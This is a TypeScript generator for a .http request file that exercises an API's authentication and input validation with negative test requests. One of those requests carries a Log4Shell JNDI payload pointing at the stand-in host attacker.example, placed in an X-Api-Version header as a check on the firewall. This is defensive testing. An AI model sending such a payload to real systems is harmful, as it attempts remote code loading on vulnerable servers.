/** Requests to the API as a `.http` file, which VS Code's REST Client and JetBrains' IDEs send. */
import { type RouteRow, routeRows } from "@secure-lambda/functions/contract";
import { exampleRequest, type ExampleRequest } from "../support/example-request.ts";

/** A request of the file: what it shows, the statuses that it can have, and the token that it is sent with. */
interface Entry {
  readonly title: string;
  readonly request: ExampleRequest;
  readonly token?: string | undefined;
}

/** Replaced by the variable, which is no URL. */
const placeholder = "http://api.invalid";

/** The file for routes, those of the contract by default: each as it is served, then what is refused. */
export function httpFile(rows: readonly RouteRow[] = routeRows): string {
  const pools = [...new Set(rows.map(({ userPool }) => userPool))];
  return [
    "# Requests to the API, for VS Code's REST Client and JetBrains' HTTP Client. Generated: npm run openapi",
    "# A token is what this prints: npm run -s token -- user1@example.com",
    "@apiUrl = http://127.0.0.1:3000",
    ...pools.map((pool) => `@token${pool} = the ID token of user${pool}@example.com`),
    ...[...rows.map(servedEntry), ...refusedEntries(rows)].flatMap(linesOf),
    "",
  ].join("\n");
}

const tokenOf = (pool: number) => `{{token${pool}}}`;

const servedEntry = (row: RouteRow): Entry => ({
  title: `${row.method} ${row.path} is served: 200`,
  request: exampleRequest(placeholder, row),
  token: tokenOf(row.userPool),
});

/** What is worth trying, each with the status that it must have. */
function refusedEntries(rows: readonly RouteRow[]): readonly Entry[] {
  return [...rows.flatMap(tokenEntries), ...firstOf(rows).flatMap(inputEntries)];
}

/** The input of one route says enough of all: one that takes a body, if there is one. */
const firstOf = (rows: readonly RouteRow[]) =>
  [rows.find(({ request }) => request.json !== undefined) ?? rows[0]].filter(
    (row) => row !== undefined,
  );

function tokenEntries(row: RouteRow, _at: number, rows: readonly RouteRow[]): readonly Entry[] {
  const request = exampleRequest(placeholder, row);
  const route = `${row.method} ${row.path}`;
  const other = rows.find(({ userPool }) => userPool !== row.userPool)?.userPool;
  return [
    { title: `${route} without a token: 401`, request },
    { title: `${route} with an altered token: 401`, request, token: `${tokenOf(row.userPool)}x` },
    ...(other === undefined
      ? []
      : [
          { title: `${route} with a token of the other pool: 401`, request, token: tokenOf(other) },
        ]),
  ];
}

function inputEntries(row: RouteRow): readonly Entry[] {
  const request = exampleRequest(placeholder, row);
  const { url, headers, body } = request;
  const token = tokenOf(row.userPool);
  const lookup = { "X-Api-Version": "${jndi:ldap://attacker.example/a}" };
  const unknownPath = { ...request, url: `${url.split("?")[0]}/admin` };
  return [
    ...(body === undefined ? [] : bodyEntries(request, body, token)),
    { title: "a path that no route has: 403", request: unknownPath, token },
    {
      title: "a method that the route has not: 403",
      request: { ...request, method: "DELETE" as const },
      token,
    },
    {
      title: "Log4Shell in a header: 403 where the firewall blocks, 200 where it counts",
      request: { ...request, headers: { ...headers, ...lookup } },
      token,
    },
  ];
}

const bodyEntries = (request: ExampleRequest, body: string, token: string): readonly Entry[] => [
  {
    title: "an unknown key: 400",
    request: { ...request, body: `${body.slice(0, -1)},"admin":true}` },
    token,
  },
  { title: "a list instead of an object: 400", request: { ...request, body: `[${body}]` }, token },
  {
    title: "a body that is not JSON: 400",
    request: { ...request, body: body.slice(0, -1) },
    token,
  },
  {
    title: "a content type other than JSON: 415",
    request: { ...request, headers: { "Content-Type": "text/plain" } },
    token,
  },
];

function linesOf({ title, request, token }: Entry): readonly string[] {
  const { method, url, headers, body } = request;
  return [
    "",
    `### ${title}`,
    `${method} ${url.replace(placeholder, "{{apiUrl}}")}`,
    ...(token === undefined ? [] : [`Authorization: Bearer ${token}`]),
    ...Object.entries(headers).map(([name, value]) => `${name}: ${value}`),
    ...(body === undefined ? [] : ["", body]),
  ];
}
